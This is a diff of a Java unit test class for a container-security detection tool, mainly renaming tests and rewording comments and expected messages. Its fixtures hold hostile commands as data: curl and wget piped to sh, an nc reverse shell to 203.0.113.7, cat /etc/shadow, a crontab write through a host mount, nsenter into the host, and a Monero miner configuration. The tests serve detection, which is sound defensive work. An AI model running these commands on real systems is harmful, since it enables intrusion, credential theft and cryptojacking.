@@ -30,7 +30,7 @@ import org.junit.jupiter.params.provider.CsvSource;
 
 class CommandRulesTest {
     @Test
-    void pointsToTheWordThatHoldsTheScript() {
+    void referencesTheWordThatContainsTheScript() {
         CommandFindings found = of(RuleFixture.running(command(false, "sh", "-c", "curl http://a.example/x | sh")));
         assertThat(found.findings()).hasSize(1);
         Finding finding = found.findings().getFirst();
@@ -44,13 +44,13 @@ class CommandRulesTest {
     }
 
     @Test
-    void seesWhatStandsInSeveralWordsToo() {
+    void matchesCommandSplitIntoSeveralWords() {
         assertThat(ids(of(RuleFixture.running(command(false, "nc", "203.0.113.7", "9001", "-e", "/bin/sh")))))
                 .containsExactly("CMD-003");
     }
 
     @Test
-    void tellsWhoGaveACommand() {
+    void notesTheOriginOfACommand() {
         CommandText layer = new CommandText(
                 "shop/app:7",
                 "history",
@@ -62,13 +62,13 @@ class CommandRulesTest {
                         RuleFixture.running(command(true, "/tmp/.x/xmrig")), List.of(), List.of(layer))
                 .findings();
         assertThat(findings).extracting(f -> f.rule().id()).containsExactly("CMD-004", "CMD-009", "CMD-001");
-        assertThat(findings.get(0).because()).contains("hands-on-keyboard or a stolen API credential");
-        assertThat(findings.get(2).because()).contains("born-malicious if whoever built it");
+        assertThat(findings.get(0).because()).contains("hands-on-keyboard");
+        assertThat(findings.get(2).because()).contains("malicious image");
         assertThat(findings.get(2).subject()).isEqualTo("shop/app:7");
     }
 
     @Test
-    void saysNothingOfIntentWhereAnImageInstallsPackages() {
+    void addsNoOriginWhenImageInstallsPackages() {
         CommandText layer = new CommandText(
                 "shop/app:7",
                 "history",
@@ -79,12 +79,12 @@ class CommandRulesTest {
 
         assertThat(CommandRules.findings(List.of(), List.of(), List.of(layer)).findings())
                 .singleElement()
-                .satisfies(finding -> assertThat(finding.because()).doesNotContain("born-malicious"));
+                .satisfies(finding -> assertThat(finding.because()).doesNotContain("malicious image"));
     }
 
-    /** What a layer did when it was made ran in no container; a shell that calls home is as bad there. */
+    /** Actions during the build of an image ran in no container; a reverse shell is as severe there. */
     @Test
-    void takesWhatImagesDoWhileTheyAreBuiltForLess() {
+    void lowersSeverityOfBuildSteps() {
         List<CommandText> layers = Stream.of(
                         "RUN wget -qO- a.example | sh",
                         "RUN apt-get clean && rm -rf /tmp/x /var/log/*",
@@ -105,7 +105,7 @@ class CommandRulesTest {
     }
 
     @Test
-    void knowsAMinerByTheNameOfItsImage() {
+    void findsMinerByImageName() {
         assertThat(of(RuleFixture.of("docker.io/miningcontainers/xmrig:6.22")).findings())
                 .singleElement()
                 .satisfies(f -> {
@@ -131,7 +131,10 @@ class CommandRulesTest {
         assertThat(ids(of(RuleFixture.workload(List.of(), execution)))).containsExactly("CMD-010");
     }
 
-    /** One that is a descriptor of the runtime's leads onto the host (CVE-2024-21626); whoever sets it needs no command. */
+    /**
+     * A working directory that is a file descriptor of the runtime gives access to the host (CVE-2024-21626) without
+     * any command.
+     */
     @ParameterizedTest
     @CsvSource(
             delimiter = '|',
@@ -145,7 +148,7 @@ class CommandRulesTest {
                 "{'docker':[{'Name':'/app','Config':{'Image':'a/b:1','WorkingDir':'%s'},'HostConfig':{}}]}"
                         + " | /Config/WorkingDir"
             })
-    void seesADirectoryToStartInThatIsTheRuntimes(String document, String place) throws Exception {
+    void findsWorkingDirectoryOfTheRuntime(String document, String place) throws Exception {
         List<Finding> findings = of(started(document, "/proc/self/fd/8")).findings();
 
         assertThat(findings).singleElement().satisfies(finding -> {
@@ -162,7 +165,7 @@ class CommandRulesTest {
     }
 
     @Test
-    void takesWhatPersistsOnTheHostForWorse() {
+    void raisesSeverityWhenHostPathIsMounted() {
         Execution.Command persists = command(false, "sh", "-c", "echo x >> /host/etc/crontab");
         Execution execution =
                 new Execution(List.of(persists), List.of(), List.of(), Optional.empty(), Optional.empty());
@@ -180,7 +183,7 @@ class CommandRulesTest {
     }
 
     @Test
-    void takesAMinersSettingsInTheEnvironmentForSuch() {
+    void findsMinerSettingsInEnvironment() {
         CommandFindings found = of(RuleFixture.with(variable(
                 "ARGS", "-o stratum+tcp://pool.supportxmr.com:3333 -u " + CommandSamples.WALLET.substring(0, 95))));
         assertThat(ids(found)).containsExactly("ENV-003", "NET-001");
@@ -192,7 +195,7 @@ class CommandRulesTest {
     }
 
     @Test
-    void tellsOfSecretsAndNeverTellsThem() {
+    void reportsSecretsWithoutTheirValues() {
         List<Execution.Variable> secrets = List.of(
                 variable("DB_PASSWORD", "correct-horse"),
                 variable("db_passwd", "hunter2hunter2"),
@@ -219,7 +222,7 @@ class CommandRulesTest {
     }
 
     @Test
-    void leavesAloneWhatOnlySoundsLikeASecret() {
+    void ignoresHarmlessNamesThatResembleSecrets() {
         List<Execution.Variable> harmless = List.of(
                 variable("MAX_TOKENS", "4096"),
                 variable("TOKEN_TTL", "3600s"),
@@ -255,13 +258,16 @@ class CommandRulesTest {
                 .containsExactly("CMD-010 web", "CMD-004 job", "CMD-006 side car");
         assertThat(findings).allSatisfy(f -> {
             assertThat(f.at()).contains(Instant.EPOCH);
-            assertThat(f.because()).contains("by somebody").contains("hands-on-keyboard");
+            assertThat(f.because()).contains("by jane").contains("hands-on-keyboard");
         });
     }
 
-    /** Somebody's pod that is gone; what a controller made of a deployment is nobody's hand, but its name could be anybody's. */
+    /**
+     * The audit log is the only record of a deleted pod. An object made by a controller is no hands-on-keyboard
+     * activity, but an attacker may use the name of a controller.
+     */
     @Test
-    void readsWhatAnAuditedRequestWouldHaveRun() throws IOException {
+    void readsContainersOfAuditedRequests() throws IOException {
         String pod = """
                 {"metadata":{"name":"b"},"spec":{"initContainers":[{"name":"prepare","command":["sh","-c"],"args":["curl http://203.0.113.7/i | sh"]}],
                  "containers":[{"name":"app","env":[{"name":"LD_PRELOAD","value":"/tmp/x.so"},{"name":"DB_PASSWORD","value":"geheim"},{"name":"A","valueFrom":{}}],
@@ -277,7 +283,7 @@ class CommandRulesTest {
         CommandFindings found = CommandRules.findings(List.of(), calls, List.of());
 
         assertThat(found.findings())
-                .as("of each of the four bodies that something would be run by")
+                .as("three matches in each of the four bodies with containers")
                 .hasSize(12)
                 .extracting(f -> f.rule().id() + " " + f.subject())
                 .containsOnly("CMD-001 a/b/prepare", "CMD-004 a/b/app", "ENV-002 a/b/app");
@@ -299,9 +305,9 @@ class CommandRulesTest {
                 .orElseThrow();
     }
 
-    /** Nobody went onto the host by it: the verdict is not to be made of it. */
+    /** A call that failed gave no access to the host, so no verdict may rely on it. */
     @Test
-    void takesTheCommandOfACallThatFailedForAnAttempt() throws IOException {
+    void treatsCommandOfFailedCallAsAttempt() throws IOException {
         String uri = """
                 {"requestURI":"/api/v1/namespaces/a/pods/b/exec?command=nsenter&command=-t&command=1"}""";
         ControlCall done = call("create pods/exec", "{}", uri, false);
@@ -334,7 +340,7 @@ class CommandRulesTest {
     }
 
     @Test
-    void showsNoPasswordsOfCommands() {
+    void masksPasswordsInCommands() {
         List<Finding> findings = of(RuleFixture.running(
                         command(
                                 false,
@@ -349,25 +355,25 @@ class CommandRulesTest {
     }
 
     @Test
-    void countsRepetitionsAndKeepsItsFindingsFew() {
+    void countsRepetitionsAndLimitsFindings() {
         List<Execution.Command> many = new ArrayList<>();
         for (int i = 0; i < 3_000; i++) {
             many.add(command(false, "cat /etc/shadow"));
         }
         CommandFindings found = of(RuleFixture.running(many.toArray(Execution.Command[]::new)));
         assertThat(found.findings()).hasSize(1);
-        assertThat(found.findings().getFirst().because()).contains("the first of 3000 times");
+        assertThat(found.findings().getFirst().because()).contains("3000");
         List<Execution.Variable> variables = new ArrayList<>();
         for (int i = 0; i < 3_000; i++) {
             variables.add(variable("PASSWORD" + i, "value-" + i));
         }
         CommandFindings flood = of(RuleFixture.with(variables.toArray(Execution.Variable[]::new)));
         assertThat(flood.findings()).hasSize(2_000);
-        assertThat(flood.gaps()).extracting(Gap::why).anyMatch(why -> why.contains("1000 more hits"));
+        assertThat(flood.gaps()).extracting(Gap::why).anyMatch(why -> why.startsWith("1000 "));
     }
 
     @Test
-    void saysOfWhatIsTooLongThatItWasNotSeen() {
+    void reportsGapWhenTextIsTooLong() {
         CommandFindings found = of(RuleFixture.running(command(false, "x ".repeat(40_000) + "| sh; cat /etc/shadow")));
         assertThat(found.findings()).isEmpty();
         assertThat(found.gaps()).hasSize(1);
@@ -387,7 +393,7 @@ class CommandRulesTest {
                 Instant.EPOCH,
                 "ecs",
                 action,
-                "somebody",
+                "jane",
                 Optional.empty(),
                 Optional.empty(),
                 "",
